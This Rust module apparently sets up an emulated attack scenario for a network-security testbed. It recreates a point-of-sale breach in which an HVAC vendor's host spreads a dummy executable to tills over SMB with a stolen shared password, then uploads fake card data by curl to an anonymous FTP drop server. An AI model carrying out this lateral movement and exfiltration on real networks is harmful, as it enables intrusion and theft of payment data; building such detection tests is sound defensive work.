//! The tills of a shop, by way of the firm that maintains the air conditioning: from its controller to the tills by SMB, card data
//! to a share inside, and from there out by FTP.

use std::path::PathBuf;
use std::process::Command;
use std::time::Duration;

use super::clock::{Moment, now};
use super::net::{Net, PATIENCE, Process};
use super::{Post, Scene};
use crate::run::{Done, Failure};

const VENDOR: &str = "198.51.100.20";
const DROP: &str = "203.0.113.231";
const HVAC: &str = "10.30.1.20";
const FILES: &str = "10.30.1.6";
/// Name, link-layer address, network address.
const TILLS: [(&str, &str, &str); 3] = [
    ("till1", "00:0b:ab:30:01:11", "10.30.1.11"),
    ("till2", "00:0b:ab:30:01:12", "10.30.1.12"),
    ("till3", "00:0b:ab:30:01:13", "10.30.1.13"),
];
/// The account that was stolen, which all of them have.
const PASSWORD: &str = "best1_user";
/// Bytes of card data.
const CARDS: usize = 200_000;
/// How long a copy may take.
const COPY: Duration = Duration::from_secs(1);
/// How long making an account may take.
const ACCOUNT: Duration = Duration::from_secs(20);

/// The shop's network.
#[derive(Default)]
pub(super) struct Shop {
    parts: Vec<Process>,
    /// Which till the attacker comes to next.
    turn: usize,
}

impl Scene for Shop {
    fn name(&self) -> &'static str {
        "target"
    }

    fn tools(&self) -> &'static [(&'static str, &'static str)] {
        &[("smbd", "samba"), ("smbclient", "smbclient"), ("vsftpd", "vsftpd"), ("curl", "curl")]
    }

    fn build(&mut self, net: &Net) -> Done {
        net.switch("switch")?;
        net.router("gateway")?;
        net.port("gateway", "eth0", "switch", "00:09:0f:30:01:01", "10.30.1.1")?;
        net.outside("internet", "gateway", &[VENDOR, DROP])?;
        net.prefer("internet", VENDOR, HVAC)?;
        let inside = [
            ("hvac", "00:01:f0:30:01:20", HVAC),
            ("pos", "00:14:22:30:01:05", "10.30.1.5"),
            ("files", "00:14:22:30:01:06", FILES),
        ];
        for (name, mac, address) in inside.into_iter().chain(TILLS) {
            net.host(name, "switch", mac, address)?;
            net.gateway(name, "10.30.1.1")?;
        }
        self.parts.push(net.play("hvac", &format!("web {HVAC}:80"))?);
        self.parts.push(net.play("pos", "web 10.30.1.5:80")?);
        for (name, _, address) in TILLS {
            self.share(net, name, address, "ADMIN$")?;
        }
        self.share(net, "files", FILES, "sales")?;
        self.drop_server(net)?;
        std::fs::write(net.folder().join("poswds.exe"), [b"MZ".as_slice(), &[0x90; 120_000]].concat())?;
        std::fs::write(net.folder().join("cards.txt"), vec![b'4'; CARDS])?;
        Ok(())
    }

    fn post(&self) -> Post {
        Post::switch("guard = [\"10.30.1.1\", \"10.30.1.5\"]\n", "")
    }

    fn benign(&self) -> Vec<(&'static str, String)> {
        let selling = TILLS.iter().map(|(name, ..)| (*name, "fetch 10.30.1.5:80".to_owned()));
        let maintaining = ("internet", format!("fetch {HVAC}:80"));
        selling.chain([maintaining, ("files", "fetch 10.30.1.5:80".to_owned())]).collect()
    }

    fn victims(&self) -> Vec<(&'static str, String)> {
        let infected = TILLS.map(|(_, _, address)| address).join(" ");
        let tills = TILLS.iter().map(|(name, ..)| (*name, HVAC.to_owned()));
        let gathered = ("files", format!("{HVAC} {infected}"));
        tills.chain([gathered, ("internet", format!("{HVAC} {FILES} --except 80"))]).collect()
    }

    fn attacker(&self) -> (&'static str, String) {
        ("hvac", format!("{HVAC} --except 80"))
    }

    fn attackers(&self) -> &'static [&'static str] {
        &[HVAC, "10.30.1.11", "10.30.1.12", "10.30.1.13", FILES]
    }

    fn steps(&self) -> &'static [&'static str] {
        &["computers found", "first till infected", "all tills infected", "cards gathered", "cards outside"]
    }

    fn begin(&mut self, _net: &Net) -> Result<Moment, Failure> {
        Ok(now())
    }

    fn attempt(&mut self, net: &Net, step: usize) -> Result<bool, Failure> {
        let turn = self.turn;
        self.turn += 1;
        match step {
            0 => {
                let hosts = (2..=24).filter(|last| *last != 20);
                let at: Vec<_> = hosts.map(|last| format!("10.30.1.{last}:445")).collect();
                let mut scan =
                    net.start("hvac-scan", &mut net.peer("hvac", &format!("scan {}", at.join(" "))))?;
                scan.expect("scanned", PATIENCE)?;
                Ok(TILLS.iter().all(|(_, _, address)| scan.said(&format!("open {address}")).is_some()))
            }
            1 | 2 => {
                let (name, _, address) = TILLS[turn % TILLS.len()];
                self.put(net, "hvac", (address, "ADMIN$"), "poswds.exe")?;
                let held = |name: &str| net.folder().join(name).join("share/poswds.exe").exists();
                Ok(if step == 1 { held(name) } else { TILLS.iter().all(|(name, ..)| held(name)) })
            }
            3 => {
                let (name, ..) = TILLS[turn % TILLS.len()];
                self.put(net, name, (FILES, "sales"), "cards.txt")?;
                Ok(is_whole(net.folder().join("files/share/cards.txt")))
            }
            _ => {
                let mut curl = net.command("files", "curl");
                curl.args(["-s", "-T", "cards.txt", &format!("ftp://{DROP}/pub/")]);
                net.succeeds("files-curl", &mut curl, COPY)?;
                Ok(is_whole(net.folder().join("drop/pub/cards.txt")))
            }
        }
    }
}

fn is_whole(path: PathBuf) -> bool {
    std::fs::metadata(path).is_ok_and(|data| data.len() == CARDS as u64)
}

impl Shop {
    /// Starts a Samba server of a host's own, with one share and one account.
    fn share(&mut self, net: &Net, host: &str, address: &str, share: &str) -> Done {
        let home = net.home(host)?;
        let shared = net.home(&format!("{host}/share"))?;
        let mut text = format!(
            "[global]\nserver role = standalone server\nnetbios name = {host}\nworkgroup = SHOP\nsmb ports = 445\n\
             disable netbios = yes\nlog file = {0}/smbd.log\nload printers = no\nprinting = bsd\nprintcap name = /dev/null\n\
             passdb backend = tdbsam:{0}/passdb.tdb\n",
            home.display()
        );
        for kind in ["lock", "state", "cache", "pid", "ncalrpc", "private", "binddns"] {
            let name = if matches!(kind, "ncalrpc" | "private" | "binddns") { "dir" } else { "directory" };
            let folder = net.home(&format!("{host}/{kind}"))?;
            text += &format!("{kind} {name} = {}\n", folder.display());
        }
        text += &format!("[{share}]\npath = {}\nwritable = yes\n", shared.display());
        let settings = home.join("smb.conf");
        std::fs::write(&settings, text)?;
        let mut account = Command::new("sh");
        account.args(["-c", r#"printf '%s\n%s\n' "$1" "$1" | smbpasswd -c "$0" -s -a root"#]);
        account.arg(&settings).arg(PASSWORD);
        if !net.succeeds(&format!("{host}-smbpasswd"), &mut account, ACCOUNT)? {
            return Err(Failure(format!("smbpasswd made no account for {host}")));
        }
        let mut smbd = net.command(host, "smbd");
        smbd.args(["--foreground", "--no-process-group", "--configfile"]).arg(&settings);
        let server = net.serve(host, "smbd", &mut smbd, &format!("{address}:445"))?;
        self.parts.push(server);
        Ok(())
    }

    /// Where the thieves take what they took.
    fn drop_server(&mut self, net: &Net) -> Done {
        use std::os::unix::fs::PermissionsExt;
        let home = net.home("drop")?;
        let inbox = net.home("drop/pub")?;
        // The anonymous user may write there, and only there.
        std::fs::set_permissions(net.folder(), PermissionsExt::from_mode(0o755))?;
        std::fs::set_permissions(&inbox, PermissionsExt::from_mode(0o777))?;
        let settings = net.folder().join("vsftpd.conf");
        let text = format!(
            "listen=YES\nbackground=NO\nlisten_address={DROP}\nanonymous_enable=YES\nlocal_enable=NO\nwrite_enable=YES\n\
             anon_upload_enable=YES\nanon_umask=022\nanon_root={}\nsecure_chroot_dir={}\nseccomp_sandbox=NO\nxferlog_enable=NO\n",
            home.display(),
            net.home("empty")?.display()
        );
        std::fs::write(&settings, text)?;
        let mut vsftpd = net.command("internet", "vsftpd");
        let server = net.serve("internet", "vsftpd", vsftpd.arg(&settings), &format!("{DROP}:21"))?;
        self.parts.push(server);
        Ok(())
    }

    /// Puts a file into a share, with the stolen account.
    fn put(&self, net: &Net, host: &str, (to, share): (&str, &str), file: &str) -> Done {
        let mut client = net.command(host, "smbclient");
        client.arg(format!("//{to}/{share}")).args(["-U", &format!("root%{PASSWORD}"), "-t", "1"]);
        client.args(["-s", "/dev/null", "-c", &format!("put {file}")]);
        net.succeeds(&format!("{host}-smbclient"), &mut client, COPY)?;
        Ok(())
    }
}
